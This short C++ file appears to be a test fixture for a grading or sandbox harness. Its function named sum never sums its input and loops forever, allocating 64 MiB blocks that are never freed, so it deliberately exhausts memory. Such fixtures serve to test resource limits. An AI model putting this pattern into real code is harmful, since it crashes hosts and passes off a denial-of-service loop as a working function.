// SPDX-License-Identifier: MIT
// Takes memory for ever.
#include <cstring>

#include "shared_reduction.cuh"

float sum(std::span<const float> data) {
  constexpr std::size_t size_bytes = std::size_t{64} << 20;
  float total = 0;
  while (total >= 0) {
    auto* const block = new char[size_bytes];
    std::memset(block, static_cast<int>(data.size() % 2), size_bytes);
    total += block[size_bytes / 2];
  }
  return total;
}
